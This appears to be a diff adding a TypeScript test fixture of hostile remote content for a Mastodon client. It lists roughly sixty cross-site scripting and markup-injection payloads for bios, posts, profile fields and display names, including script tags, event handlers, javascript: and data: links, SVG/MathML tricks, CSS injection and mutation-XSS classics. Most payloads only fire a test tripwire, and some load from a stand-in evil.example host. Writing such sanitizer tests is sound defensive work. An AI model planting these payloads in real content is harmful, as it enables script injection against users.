@@ -1,0 +1,110 @@
+// Hostile remote content a Mastodon server may send: HTML for bios, profile field values and posts,
+// plain text (with :shortcodes:) for display names and field names. The fake seeds accounts with
+// it, the sanitizer tests run every entry, and the e2e XSS test renders them in Chromium with a
+// tripwire planted. Each payload, if it ever executed, calls `window.__xss(<id>)`.
+
+export type HostileTarget = 'bio' | 'post' | 'field' | 'name';
+
+export interface HostilePayload {
+  id: string;
+  target: HostileTarget;
+  payload: string;
+}
+
+const trip = (id: string) => `__xss('${id}')`;
+
+const HTML_PAYLOADS: Array<[string, (t: string) => string]> = [
+  // script tags
+  ['script-plain', (t) => `<p>hi</p><script>${t}</script>`],
+  ['script-uppercase', (t) => `<SCRIPT>${t}</SCRIPT><p>ok</p>`],
+  ['script-src', () => `<script src="https://evil.example/x.js"></script>`],
+  ['script-nested-broken', (t) => `<scr<script>ipt>${t}</scr</script>ipt>`],
+  ['script-in-p-unclosed', (t) => `<p>bio<script>${t}`],
+  ['script-comment-break', (t) => `<!--<script>-->${t}<!--</script>-->`],
+  ['script-cdata', (t) => `<![CDATA[<script>${t}</script>]]>`],
+  // event handlers
+  ['img-onerror', (t) => `<img src=x onerror="${t}">`],
+  ['p-onclick', (t) => `<p onclick="${t}">click</p>`],
+  ['a-onmouseover', (t) => `<a href="https://ok.example" onmouseover="${t}">hover</a>`],
+  ['span-onfocus-autofocus', (t) => `<span class="mention" tabindex=0 autofocus onfocus="${t}">x</span>`],
+  ['body-onload', (t) => `<body onload="${t}">`],
+  ['details-ontoggle', (t) => `<details open ontoggle="${t}"><summary>x</summary></details>`],
+  ['video-onerror', (t) => `<video><source onerror="${t}"></video>`],
+  ['input-onfocus', (t) => `<input autofocus onfocus="${t}">`],
+  ['marquee-onstart', (t) => `<marquee onstart="${t}">x</marquee>`],
+  ['handler-no-quotes', (t) => `<p/onmouseover=${t.replace(/'/g, '')}>x</p>`],
+  ['handler-entity-encoded', () => `<img src=x onerror="&#95;&#95;xss('entity')">`],
+  // javascript:, data:, vbscript: links
+  ['a-javascript', (t) => `<a href="javascript:${t}">link</a>`],
+  ['a-javascript-mixed-case', (t) => `<a href="JaVaScRiPt:${t}">link</a>`],
+  ['a-javascript-entities', () => `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__xss('ent')">x</a>`],
+  ['a-javascript-tab', (t) => `<a href="java\tscript:${t}">x</a>`],
+  ['a-javascript-newline', (t) => `<a href="java&#x0A;script:${t}">x</a>`],
+  ['a-javascript-leading-space', (t) => `<a href="  javascript:${t}">x</a>`],
+  ['a-data-html', () => `<a href="data:text/html;base64,PHNjcmlwdD5fX3hzcygnZGF0YScpPC9zY3JpcHQ+">x</a>`],
+  ['a-vbscript', () => `<a href="vbscript:msgbox(1)">x</a>`],
+  ['a-relative', () => `<a href="/settings/delete">x</a>`],
+  ['a-protocol-relative', () => `<a href="//evil.example/x">x</a>`],
+  ['iframe-src-javascript', (t) => `<iframe src="javascript:${t}"></iframe>`],
+  ['iframe-srcdoc', (t) => `<iframe srcdoc="<script>parent.${t}</script>"></iframe>`],
+  ['object-data', () => `<object data="javascript:__xss('object')"></object>`],
+  ['embed-src', () => `<embed src="data:text/html,<script>__xss('embed')</script>">`],
+  ['form-action', (t) => `<form action="javascript:${t}"><button>go</button></form>`],
+  ['button-formaction', (t) => `<button formaction="javascript:${t}">x</button>`],
+  ['meta-refresh', () => `<meta http-equiv="refresh" content="0;url=javascript:__xss('meta')">`],
+  ['base-href', () => `<base href="javascript:/"><a href="x">x</a>`],
+  // SVG and MathML
+  ['svg-onload', (t) => `<svg onload="${t}"></svg>`],
+  ['svg-script', (t) => `<svg><script>${t}</script></svg>`],
+  ['svg-animate-href', (t) => `<svg><a><animate attributeName="href" values="javascript:${t}"/><text y="20">x</text></a></svg>`],
+  ['svg-use-data', () => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='__xss(1)'/></svg>#x"/></svg>`],
+  ['svg-foreignobject', (t) => `<svg><foreignObject><iframe src="javascript:${t}"></iframe></foreignObject></svg>`],
+  ['math-href', (t) => `<math><mtext><a xlink:href="javascript:${t}">x</a></mtext></math>`],
+  ['math-maction', (t) => `<math><maction actiontype="statusline" xlink:href="javascript:${t}">x</maction></math>`],
+  // CSS injection
+  ['style-tag', () => `<style>body{background:url("https://evil.example/track")}</style><p>x</p>`],
+  ['style-attr-expression', () => `<p style="width:expression(__xss('expr'))">x</p>`],
+  ['style-attr-url', () => `<span style="background:url(javascript:__xss('css'))">x</span>`],
+  ['link-stylesheet', () => `<link rel="stylesheet" href="https://evil.example/x.css">`],
+  ['class-smuggling', () => `<span class="mention invisible fixed inset-0 z-50">overlay</span>`],
+  // broken markup and mXSS classics
+  ['mxss-noscript', (t) => `<noscript><p title="</noscript><img src=x onerror=${t.replace(/'/g, '')}>">`],
+  ['mxss-math-style', () => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__xss(1)&gt;">`],
+  ['mxss-form-math', () => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss(2)>`],
+  ['mxss-svg-p-style', () => `<svg></p><style><a id="</style><img src=1 onerror=__xss(3)>">`],
+  ['mxss-textarea', (t) => `<textarea></textarea><img src=x onerror="${t}">`],
+  ['mxss-title', (t) => `<title><img src=x onerror="${t}"></title>`],
+  ['mxss-xmp', (t) => `<xmp><p title="</xmp><img src=x onerror=${t.replace(/'/g, '')}>">`],
+  ['unclosed-attr', (t) => `<a href="https://ok.example onclick=${t}>x`],
+  ['null-byte-tag', (t) => `<scr\u0000ipt>${t}</scr\u0000ipt>`],
+  ['template-tag', (t) => `<template><script>${t}</script></template>`],
+  ['deep-nesting', (t) => `${'<span>'.repeat(600)}<img src=x onerror="${t}">${'</span>'.repeat(600)}`],
+];
+
+const NAME_PAYLOADS: Array<[string, string]> = [
+  ['name-script', `<script>__xss('name-script')</script>`],
+  ['name-img', `<img src=x onerror=__xss('name-img')>`],
+  ['name-shortcode-unknown', `:blobcat: <b>bold</b>`],
+  ['name-shortcode-known', `Ada :verified: Lovelace`],
+  ['name-bidi-override', `\u202eadmin\u202c`],
+  ['name-zero-width', `ad\u200bmin`],
+  ['name-control-chars', `Ada\u0000\u0007\u001b[31m`],
+  ['name-very-long', `${'A'.repeat(2000)}<svg onload=__xss('long')>`],
+];
+
+/** Every hostile payload, with stable ids. More than 50, across all four targets. */
+export function hostilePayloads(): HostilePayload[] {
+  const out: HostilePayload[] = [];
+  HTML_PAYLOADS.forEach(([name, make], i) => {
+    const target: HostileTarget = i % 3 === 0 ? 'bio' : i % 3 === 1 ? 'post' : 'field';
+    out.push({ id: name, target, payload: make(trip(name)) });
+  });
+  for (const [name, payload] of NAME_PAYLOADS) out.push({ id: name, target: 'name', payload });
+  return out;
+}
+
+/** The custom emoji the fake lists for accounts with hostile names. */
+export const HOSTILE_EMOJIS = [
+  { shortcode: 'verified', url: 'https://emoji.example/verified.png', static_url: 'https://emoji.example/verified.png', visible_in_picker: true },
+  { shortcode: 'evil', url: 'javascript:__xss("emoji")', static_url: 'javascript:__xss("emoji")', visible_in_picker: true },
+];
